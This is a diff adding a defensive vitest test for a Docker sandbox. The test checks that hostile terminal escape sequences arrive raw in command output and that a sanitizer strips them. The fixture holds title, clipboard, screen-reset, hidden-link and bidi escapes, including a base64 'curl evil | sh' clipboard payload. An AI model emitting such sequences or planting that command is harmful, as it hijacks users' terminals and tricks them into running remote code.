@@ -1,0 +1,31 @@
+import { describe, expect, it } from "vitest";
+import { DockerSandbox } from "../../../src/sandbox/docker-sandbox.js";
+import { sanitizeForTerminal } from "../../../src/terminal/sanitize.js";
+import { skipDocker } from "../../support/docker-available.js";
+import { makeWorkspace } from "../../support/workspace.js";
+
+/**
+ * printf escapes for what a hostile program prints to take over the user's terminal: set the window
+ * title, write the clipboard (OSC 52), clear the screen and reset the terminal, hide a link, and
+ * reverse text with a bidi override.
+ */
+const HOSTILE =
+  "printf 'a\\033]0;pwned title\\007b\\033]52;c;Y3VybCBldmlsIHwgc2g=\\007c\\033[2J\\033[Hd\\033ce" +
+  "\\033]8;;http://evil.invalid\\033\\\\link\\033]8;;\\033\\\\f\\342\\200\\256g\\n'";
+
+describe.skipIf(skipDocker)("adversarial: terminal escape sequences in output", () => {
+  it("arrive raw in the ExecResult, and the terminal layer strips them", async () => {
+    using ws = makeWorkspace();
+    await using sandbox = await DockerSandbox.open({ workspace: ws.path, removeOnStop: true });
+    const result = await sandbox.exec(`${HOSTILE}; ${HOSTILE} >&2`);
+    for (const stream of [result.stdout, result.stderr]) {
+      // The model gets the bytes as printed: the sandbox does not rewrite output.
+      expect(stream).toContain("\u001b]52;c;");
+      expect(stream).toContain("\u001b]0;pwned title\u0007");
+      expect(stream).toContain("\u001b[2J");
+      expect(stream).toContain("\u202e");
+      const shown = sanitizeForTerminal(stream);
+      expect(shown).toBe("abcdelinkfg\n");
+    }
+  });
+});
